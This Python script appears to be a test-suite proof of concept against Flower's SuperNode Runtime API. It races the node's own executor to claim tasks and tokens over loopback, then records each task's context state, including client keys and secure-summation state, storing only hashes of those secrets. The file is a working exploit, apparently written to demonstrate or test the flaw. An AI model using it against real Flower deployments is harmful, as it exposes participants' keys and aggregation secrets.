"""An outside process on the SuperNodes' host (tests/test_hostnet.py): it claims a SuperNode's
tasks through Flower's node-side Runtime API on loopback and reads the node's ``context.state``.

Flower's SuperNode (1.39 to 1.42, subprocess isolation) hands a pending task and its token to
any caller of ``/v1/runtime/acquire-task``; its own SuperExec polls once a second, this process
every 20 ms, so it wins the tasks. For each task it runs Flower's own ClientApp runtime
(``run_clientapp``) with the token it got, after recording the ``context`` that
``pull_task_input`` returns: the node answers the server as usual and the run goes on, while
this process keeps a copy of every context it saw (its ``state`` holds the node's client key and
its secure-summation state).

    python runtime_api_thief.py --ports P [P ...] --out DIR --seconds S [--stop-file F]
        polls 127.0.0.1:P for S seconds (or until F exists); writes DIR/summary.json:
        {"ports": {P: {"answered": bool, "tasks": n, "errors": [...]}}, "contexts": [files]}
    python runtime_api_thief.py relay --port P --token T --out FILE   (one stolen task)
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import time
from pathlib import Path


def _client(port: int, token: str | None = None):
    from flwr.supercore.interceptors import RuntimeTokenHttpInterceptor, RuntimeVersionHttpInterceptor
    from flwr.supercore.runtime import RuntimeHttpClient

    interceptors = [RuntimeVersionHttpInterceptor(component_name="flwr-clientapp")]
    if token is not None:
        interceptors.append(RuntimeTokenHttpInterceptor(token))
    return RuntimeHttpClient.from_server_address(server_address=f"127.0.0.1:{port}", insecure=True, root_certificates=None, interceptors=interceptors)


def describe_state(context) -> dict:
    """The records of ``context.state``: config records with their keys (bytes as length and
    hex digest prefix, never the whole secret on disk), array records with their array names."""
    import hashlib

    out = {}
    for name, rec in context.state.config_records.items():
        out[name] = {k: ({"bytes": len(v), "sha256": hashlib.sha256(v).hexdigest()} if isinstance(v, bytes) else repr(v)[:80]) for k, v in rec.items()}
    for name, rec in context.state.array_records.items():
        out[name] = {"arrays": list(rec.keys())}
    return out


def relay(port: int, token: str, out: Path) -> None:
    """Run the stolen task with Flower's own ClientApp runtime, recording its context first."""
    from flwr.supernode.runtime import run_clientapp as rc

    real = rc.pull_task_input

    def pull_and_keep(client):
        message, context, run, fab = real(client)
        out.write_text(json.dumps({"port": port, "run_id": run.run_id, "node_id": context.node_id, "message_type": message.metadata.message_type,
                                   "state": describe_state(context)}))
        return message, context, run, fab

    rc.pull_task_input = pull_and_keep
    rc.run_clientapp(runtime_api_address=f"127.0.0.1:{port}", token=token, insecure=True)


def poll(ports: list[int], out: Path, seconds: float, stop_file: Path | None = None) -> dict:
    from flwr.proto.runtime_pb2 import AcquireTaskRequest

    out.mkdir(parents=True, exist_ok=True)
    report = {str(p): {"answered": False, "tasks": 0, "errors": []} for p in ports}
    clients = {p: _client(p) for p in ports}
    children = []
    deadline = time.monotonic() + seconds
    n = 0
    while time.monotonic() < deadline and not (stop_file is not None and stop_file.exists()):
        for p in ports:
            try:
                res = clients[p].AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-clientapp"]))
            except Exception as exc:  # noqa: BLE001: refused, reset, ...: recorded
                errs = report[str(p)]["errors"]
                msg = f"{type(exc).__name__}: {exc}"[:200]
                if msg not in errs and len(errs) < 5:
                    errs.append(msg)
                continue
            report[str(p)]["answered"] = True
            if res.HasField("task") and res.token:
                report[str(p)]["tasks"] += 1
                n += 1
                dump = out / f"context-{p}-{n}.json"
                env = {**os.environ, "FLWR_HOME": str(out / f"flwr-home-{n}")}
                children.append(subprocess.Popen([sys.executable, __file__, "relay", "--port", str(p), "--token", res.token, "--out", str(dump)],
                                                 env=env, stdout=subprocess.DEVNULL, stderr=open(out / f"relay-{n}.log", "wb")))
        time.sleep(0.02)
    for c in children:
        try:
            c.wait(timeout=60)
        except subprocess.TimeoutExpired:
            c.kill()
    report = {"ports": report, "contexts": sorted(str(f) for f in out.glob("context-*.json"))}
    (out / "summary.json").write_text(json.dumps(report, indent=1))
    return report


def main() -> None:
    if sys.argv[1:2] == ["relay"]:
        ap = argparse.ArgumentParser()
        ap.add_argument("--port", type=int)
        ap.add_argument("--token")
        ap.add_argument("--out", type=Path)
        a = ap.parse_args(sys.argv[2:])
        relay(a.port, a.token, a.out)
        return
    ap = argparse.ArgumentParser()
    ap.add_argument("--ports", type=int, nargs="+")
    ap.add_argument("--out", type=Path)
    ap.add_argument("--seconds", type=float)
    ap.add_argument("--stop-file", type=Path, default=None)
    a = ap.parse_args()
    poll(a.ports, a.out, a.seconds, a.stop_file)


if __name__ == "__main__":
    main()
